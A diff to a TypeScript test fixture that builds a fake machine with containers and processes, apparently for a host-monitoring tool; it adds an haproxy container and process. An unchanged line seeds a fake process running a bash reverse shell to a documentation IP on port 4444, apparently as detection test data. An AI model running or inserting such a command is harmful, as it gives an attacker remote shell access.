@@ -18,6 +18,7 @@ const labels = {
 export function everything(): Machine {
   const host = createHost(2);
   const id = addContainer(host, 2, 'web', 77, { labels });
+  addContainer(host, 2, 'odyssey-haproxy', 79);
   const inspected = host.docker[`/containers/${id}/json`] as { State: object; HostConfig: object };
   inspected.State = { ...inspected.State, Health: { Status: 'healthy' } };
   inspected.HostConfig = { Memory: 536_870_912, NanoCpus: 5e8 };
@@ -35,6 +36,7 @@ export function everything(): Machine {
     ...host.files,
     ...hostFiles,
     ...processFiles(77, 'server', 'server --listen 80'),
+    ...processFiles(79, 'haproxy', 'haproxy -W -db'),
     ...processFiles(78, 'bash', 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
   };
   const machine = fakeMachine(files, {
